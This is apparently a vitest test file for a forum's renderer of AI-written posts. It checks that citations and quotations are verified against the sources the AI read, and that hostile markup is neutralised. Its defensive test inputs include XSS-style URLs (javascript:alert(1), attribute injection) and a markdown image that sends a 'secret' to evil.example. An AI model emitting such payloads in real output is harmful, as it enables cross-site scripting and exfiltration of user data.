import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { citationsOf } from '../../server/ai/citations.ts'
import type { Piece } from '../../server/ai/context.ts'
import { createRenderer } from '../../server/threads/render.ts'
import type { Citations } from '../../shared/markdown-citations.ts'
import { createMarkdown } from '../../shared/markdown.ts'
import type { Manifest } from '../../shared/run.ts'
import { createReader, violations } from '../security/allow-list.ts'
import { nameVectors, vectors } from '../security/xss-corpus.ts'

const thread = 'k3v9x2q7ab'
const render = createRenderer({ publicUrl: 'https://forum.example' })
const read = createReader()
const rel = 'rel="nofollow ugc noopener"'

const post = (number: number, text: string, inThread = thread): Piece => ({
  kind: 'post',
  thread: inThread,
  number,
  parent: null,
  author: 'Ada',
  byAi: false,
  why: 'ancestor',
  text,
})
const section = (document: number, number: number, text: string): Piece => ({
  kind: 'section',
  document,
  title: 'T',
  section: number,
  heading: null,
  why: 'article',
  text,
})
function manifestOf(pieces: readonly Piece[], urls: readonly string[] = []): Manifest {
  const noted = pieces.map((piece): Manifest['pieces'][number] =>
    piece.kind === 'post'
      ? {
          kind: 'post',
          thread: piece.thread,
          number: piece.number,
          author: '',
          why: piece.why,
          tokens: 1,
          cut: false,
        }
      : {
          kind: 'section',
          document: piece.document,
          section: piece.section,
          heading: null,
          why: 'article',
          tokens: 1,
          cut: false,
        },
  )
  const documents = urls.map((url, at) => ({ document: at + 1, url, title: '', hash: null, sections: 9 }))
  return { pieces: noted, documents, leftOut: 0, budget: 1, tokens: 1 }
}
const inline = (body: string, citations: Citations) =>
  render(body, { thread, citations })
    .html.trim()
    .replace(/^<p>|<\/p>$/g, '')

const [a, b] = ['https://a.example/one', 'https://b.example/two?x=1&y="']
const one = [post(17, 'x'), post(4, 'x'), section(1, 3, 'x'), section(1, 4, 'x'), post(9, 'x', 'zzzzzzzzzz')]
const postLink = (number: number, text = `[#${number}]`) =>
  `<a href="/t/${thread}/${number}" class="post-ref citation">${text}</a>`
const docLink = (text: string, href = a) =>
  `<a href="${href.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}" ${rel} class="citation">${text}</a>`
const bad = (text: string) =>
  `<span class="citation unverified" title="Not among what the AI read">${text}</span>`

describe('a citation', () => {
  const citations = citationsOf(manifestOf(one, [a]), thread)

  it.each([
    ['See [#17].', `See ${postLink(17)}.`],
    ['[#99]', bad('[#99]')],
    // A post of another thread was read, which is not what #9 means.
    ['[#9]', bad('[#9]')],
    ['[doc §3]', docLink('[doc §3]')],
    ['[doc 1 §3]', docLink('[doc 1 §3]')],
    ['[Doc. 1, § 4]', docLink('[Doc. 1, § 4]')],
    ['[document §3]', docLink('[document §3]')],
    ['[doc §3–4]', docLink('[doc §3–4]')],
    ['[doc §3-5]', bad('[doc §3-5]')],
    ['[doc §4-3]', bad('[doc §4-3]')],
    ['[doc §5]', bad('[doc §5]')],
    ['[doc 2 §3]', bad('[doc 2 §3]')],
    ['[doc §1-99999]', bad('[doc §1-99999]')],
    ['[#17, #99; doc §3, §5]', `[${postLink(17, '#17')}, ${bad('#99')}; ${docLink('doc §3')}, ${bad('§5')}]`],
    ['[#17][#4]', postLink(17) + postLink(4)],
    ['**[#17]**', `<strong>${postLink(17)}</strong>`],
    // A bare number is a link as ever, as long as it was read.
    ['#17 and #99', `<a href="/t/${thread}/17" class="post-ref">#17</a> and #99`],
    // No address and no definition makes one of these lead elsewhere.
    [
      '[#17](https://evil.example)',
      `${postLink(17)}(<a href="https://evil.example" ${rel}>https://evil.example</a>)`,
    ],
    ['[#17][x]\n\n[x]: https://evil.example', `${postLink(17)}<a href="https://evil.example" ${rel}>x</a>`],
    ['[#17]\n\n[#17]: https://evil.example', postLink(17)],
    ['[doc §3]\n\n[doc §3]: https://evil.example', docLink('[doc §3]')],
    [
      '[so says [#17]](https://evil.example)',
      `[so says ${postLink(17)}](<a href="https://evil.example" ${rel}>https://evil.example</a>)`,
    ],
    // Not citations.
    ['[§3]', '[§3]'],
    ['[#17 and more]', `[<a href="/t/${thread}/17" class="post-ref">#17</a> and more]`],
    ['[doc]', '[doc]'],
    ['[#0]', '[#0]'],
    ['`[#99] [doc §9]`', '<code>[#99] [doc §9]</code>'],
    ['\\[#99]', '[#99]'],
  ])('%j', (body, expected) => expect(inline(body, citations)).toBe(expected))

  it('of one of two documents says which', () => {
    const two = citationsOf(manifestOf([section(1, 3, ''), section(2, 3, '')], [a, b]), thread)
    expect(inline('[doc 2 §3]', two)).toBe(docLink('[doc 2 §3]', 'https://b.example/two?x=1&y="'))
    expect(inline('[doc §3]', two)).toBe(bad('[doc §3]'))
  })

  it('in code, math, tables and headings is left alone, or is one', () => {
    const { html } = render('```\n[#99]\n```\n\n$$\n[#99]\n$$\n\n## [#17]\n\n|a|\n|-|\n|[#99]|', {
      thread,
      citations,
    })
    const page = read(html)
    expect(page.querySelectorAll('pre .citation, math .citation, .math .citation')).toHaveLength(0)
    expect(page.querySelectorAll('h4 a.citation')).toHaveLength(1)
    expect(page.querySelectorAll('td .unverified')).toHaveLength(1)
  })

  it('has no link where the address of the page is not safe', () => {
    for (const url of [
      'javascript:alert(1)',
      'data:text/html,x',
      'https://user:x@evil.example',
      '" onclick="x',
      '//evil',
    ]) {
      const hostile = citationsOf(
        manifestOf([section(1, 3, 'words that are long enough to be found here')], [url]),
        thread,
        [section(1, 3, 'words that are long enough to be found here')],
      )
      expect(inline('[doc §3]', hostile)).toBe('<span class="citation">[doc §3]</span>')
      expect(inline('“words that are long enough to be found here”', hostile)).toBe(
        '<span class="quotation verified">“words that are long enough to be found here”</span>',
      )
    }
  })

  it('changes nothing of posts by people', () => {
    expect(render('[#99] “a quotation that nobody has looked for anywhere”', { thread }).html).toBe(
      `<p>[<a href="/t/${thread}/99" class="post-ref">#99</a>] “a quotation that nobody has looked for anywhere”</p>\n`,
    )
  })
})

describe('a quotation', () => {
  const text =
    'An objection is a kind of *investment*. See [the essay](https://x.example/a_(b)) of last year for more.\n\nThe earlier you make it, the longer you will defend it… or so I think. “Inner words” are here too. 反对意见是一种投资，越早提出，坚持得越久。'
  const pieces = [
    post(4, text),
    section(1, 3, 'The moon draws the sea towards itself, and so the tides rise.'),
    post(9, 'Only elsewhere was this very sentence said.', 'zzzzzzzzzz'),
  ]
  const citations = citationsOf(manifestOf(pieces, [a]), thread, pieces)
  const found = (quoted: string) => `<span class="quotation verified">${quoted}</span>`
  const linked = (quoted: string, href = `/t/${thread}/4`) =>
    href.startsWith('/')
      ? `<a href="${href}" class="quotation verified">${quoted}</a>`
      : `<a href="${href}" class="quotation verified" ${rel}>${quoted}</a>`
  const lost = (quoted: string) =>
    `<span class="quotation unverified" title="Not found in what the AI read">${quoted}</span>`

  it.each([
    [
      '“An objection is a kind of investment.” [#4]',
      `${found('“An objection is a kind of investment.”')} ${postLink(4)}`,
    ],
    [
      'As [#4] says: “An objection is a kind of investment”.',
      `As ${postLink(4)} says: ${found('“An objection is a kind of investment”')}.`,
    ],
    // Without a citation it leads to its source itself.
    ['“An objection is a kind of investment.”', linked('“An objection is a kind of investment.”')],
    [
      '"an OBJECTION is a kind of **investment**"',
      linked('&quot;an OBJECTION is a kind of <strong>investment</strong>&quot;'),
    ],
    ['„An objection is a kind of investment“', linked('„An objection is a kind of investment“')],
    ['«An objection is a kind of investment»', linked('«An objection is a kind of investment»')],
    ['「反对意见是一种投资，越早提出」', linked('「反对意见是一种投资，越早提出」')],
    ['“the moon draws the sea towards itself”', linked('“the moon draws the sea towards itself”', a)],
    [
      '“Only elsewhere was this very sentence said”',
      linked('“Only elsewhere was this very sentence said”', '/t/zzzzzzzzzz/9'),
    ],
    ['“See the essay of last year for more.”', linked('“See the essay of last year for more.”')],
    [
      '“An objection is […] the longer you will defend it”',
      linked('“An objection is […] the longer you will defend it”'),
    ],
    [
      '“the longer you will defend it… or so I think”',
      linked('“the longer you will defend it… or so I think”'),
    ],
    [
      '“defend it… or so I think. “Inner words” are here”',
      linked('“defend it… or so I think. “Inner words” are here”'),
    ],
    // Not what was written.
    ['“An objection is a kind of present.”', lost('“An objection is a kind of present.”')],
    [
      '“An objection is a kind of present.” [#4]',
      `${lost('“An objection is a kind of present.”')} ${postLink(4)}`,
    ],
    ['“An … is … of … longer … defend”', lost('“An … is … of … longer … defend”')],
    ['“the tides rise. An objection is a kind of”', lost('“the tides rise. An objection is a kind of”')],
    // Each has its own citation, or none.
    [
      '“An objection is a kind of investment” [#4], “the moon draws the sea towards itself”',
      `${found('“An objection is a kind of investment”')} ${postLink(4)}, ${linked('“the moon draws the sea towards itself”', a)}`,
    ],
    [
      '“An objection is a kind of investment [#4]”',
      found(`“An objection is a kind of investment ${postLink(4)}”`),
    ],
    [
      '“An objection is a kind of [investment](https://x.example/)”',
      `${found(`“An objection is a kind of <a href="https://x.example/" ${rel}>investment</a>”`)} <a href="/t/${thread}/4" class="citation">[#4]</a>`,
    ],
    // Words and names, code, marks without partners and across markup: not quotations.
    ['He says “investment” and "so on".', 'He says “investment” and &quot;so on&quot;.'],
    ['`“nothing that anyone has written here”`', '<code>“nothing that anyone has written here”</code>'],
    [
      '5" and 6" are lengths, “ and this mark is never closed',
      '5&quot; and 6&quot; are lengths, “ and this mark is never closed',
    ],
    ['*“nothing that anyone* has written here”', '<em>“nothing that anyone</em> has written here”'],
    [
      '[“nothing that anyone has written here”](https://x.example/)',
      `<a href="https://x.example/" ${rel}>“nothing that anyone has written here”</a>`,
    ],
  ])('%j', (body, expected) => expect(inline(body, citations)).toBe(expected))

  it.each([
    ['> An objection is a kind of\n> *investment*.', '<blockquote class="quotation verified">', 1],
    [
      '> An objection is a kind of investment.\n>\n> — Ada [#4]',
      '<blockquote class="quotation verified">',
      1,
    ],
    [
      'As [#4] says:\n\n> An objection is a kind of investment.',
      '<blockquote class="quotation verified">',
      1,
    ],
    [
      '> An objection is a kind of investment.\n\n[#4] says so.',
      '<blockquote class="quotation verified">',
      1,
    ],
    [
      '> An objection is a kind of present.',
      '<blockquote class="quotation unverified" title="Not found in what the AI read">',
      0,
    ],
    ['> Short.', '<blockquote>', 0],
    ['> > An objection is a kind of investment.', '<blockquote class="quotation verified">', 1],
  ])('in a block: %j', (body, open, links) => {
    const { html } = render(body, { thread, citations })
    expect(html).toContain(open)
    expect(read(html).querySelectorAll('.quotation')).toHaveLength(open.includes('quotation') ? 1 : 0)
    expect(read(html).querySelectorAll(`a.citation[href="/t/${thread}/4"]`)).toHaveLength(links)
    expect(violations(read(html))).toEqual([])
  })

  it('is not marked where the texts are not at hand', () => {
    const without = citationsOf(manifestOf(pieces, [a]), thread)
    expect(inline('“An objection is a kind of present.” [#4]', without)).toBe(
      `“An objection is a kind of present.” ${postLink(4)}`,
    )
  })

  it('is looked for a bounded number of times, and quickly', () => {
    const many = Array.from({ length: 1_000 }, (_, n) => `“a quotation that is not there, number ${n}”`)
      .join(' ')
      .slice(0, 40_000)
    const hostile = [
      many,
      '“*a*'.repeat(10_000),
      '"a" '.repeat(10_000),
      '«“„「'.repeat(10_000),
      '“”'.repeat(20_000),
      '[#4,'.repeat(10_000),
      '"*aaaaaaaaaaaaaa*"'.repeat(2_300),
      '> “a\n'.repeat(8_000),
    ]
    const long = [post(4, 'words of a text '.repeat(2_500))]
    for (const body of hostile) {
      const start = performance.now()
      const { html } = render(body, { thread, citations: citationsOf(manifestOf(long), thread, long) })
      expect(performance.now() - start).toBeLessThan(3_000)
      expect((html.match(/Not found in what the AI read/g) ?? []).length).toBeLessThanOrEqual(100)
    }
  })
})

describe('hostile text of an AI', () => {
  const pieces = [post(1, vectors.map(({ body }) => body).join('\n')), section(1, 1, 'x')]
  const citations = citationsOf(manifestOf(pieces, [a]), thread, pieces)
  const markdown = createMarkdown({ publicUrl: 'https://forum.example' })

  it('is as harmless as a person’s, cited and quoted', () => {
    for (const { body } of [...vectors, ...nameVectors]) {
      const text = [
        `“${body}” [#1]`,
        `[#1]${body}[doc §1]`,
        `> ${body}`,
        `"${body} and what makes it long"`,
        body,
      ].join('\n\n')
      for (const { html } of [
        render(text, { thread, citations }),
        markdown.render(body, { thread, citations }),
      ]) {
        expect.soft(violations(read(html)), text).toEqual([])
      }
    }
  }, 30_000)

  it('loads no image by itself', () => {
    for (const body of [
      '![x](https://evil.example/?q=secret)',
      '[![x](https://evil.example/a.png)](https://b.example)',
      '<img src=x>',
      '![#1](https://evil.example/)',
      '![x][y]\n\n[y]: https://evil.example/z.png',
    ]) {
      const page = read(render(body, { thread, citations }).html)
      expect(
        page.querySelectorAll(
          'img, picture, source, video, audio, iframe, object, svg, link, [src], [srcset], [style]',
        ),
      ).toHaveLength(0)
    }
  })

  it('of any form nests well, and reads as it is written', () => {
    const parts =
      '[#1] [#2] [doc §1] [doc 2 §3] [#1, #2] “ ” " „ “ « » ** * ` ~~ > [ ] ( ) ![ ]( \n \n\n | - # word and more words of it '.split(
        ' ',
      )
    const body = fc
      .array(
        fc.oneof(
          { weight: 5, arbitrary: fc.constantFrom(...parts, ' ', 'a quotation of five and twenty letters') },
          fc.string({ unit: 'grapheme', maxLength: 5 }),
        ),
        { maxLength: 40 },
      )
      .map((list) => list.join(''))
    const letters = (text: string) => text.normalize('NFKC').replace(/[^\p{L}\p{N}]+/gu, '')
    fc.assert(
      fc.property(body, (text) => {
        const { html, text: reads } = render(text, { thread, citations })
        const page = read(html)
        expect(violations(page)).toEqual([])
        expect(page.querySelectorAll('a a, .quotation .quotation')).toHaveLength(0)
        expect(page.innerHTML.length).toBeGreaterThanOrEqual(0)
        expect(letters(reads)).toBe(letters(page.textContent))
      }),
      { numRuns: 1_000 },
    )
  })
})
